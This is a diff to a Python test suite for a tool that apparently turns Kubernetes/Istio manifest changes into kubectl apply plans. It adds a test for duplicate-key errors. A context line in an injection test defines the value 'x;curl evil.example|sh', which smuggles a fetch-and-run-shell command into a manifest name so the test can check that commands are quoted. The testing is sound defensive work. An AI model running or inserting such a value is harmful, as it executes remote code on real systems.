@@ -86,6 +86,17 @@ def test_an_error_holds_back_its_resource_and_what_must_follow_it() -> None:
     assert plan_lines(report) == [["kubectl apply -f ratings.yaml"]]
 
 
+def test_a_file_level_error_holds_back_every_change_written_in_that_file() -> None:
+    base = {"reviews.yaml": dr("reviews", ["v1"]), "ratings.yaml": dr("ratings", ["v1"])}
+    twice = dr("reviews", ["v1", "v2"], tls="ISTIO_MUTUAL").replace("spec:\n", "spec:\n  trafficPolicy: {}\n", 1)
+    head = {"reviews.yaml": twice, "ratings.yaml": dr("ratings", ["v1", "v2"])}
+    report = diff(base, head)
+    assert [f.rule for f in report.headline() if f.severity.value == "error"] == ["duplicate-key"]
+    # What kubectl would read from the file is not what the author wrote: nothing of it is applied.
+    assert [r.display for r in report.plan.left_out] == ["DestinationRule shop/reviews", "File reviews.yaml"]
+    assert plan_lines(report) == [["kubectl apply -f ratings.yaml"]]
+
+
 def test_commands_quote_what_a_manifest_names() -> None:
     hostile = "x;curl evil.example|sh"
     gw_api = ("apiVersion: gateway.networking.k8s.io/v1\nkind: Gateway\nmetadata:\n  name: edge\n  namespace: infra\n"
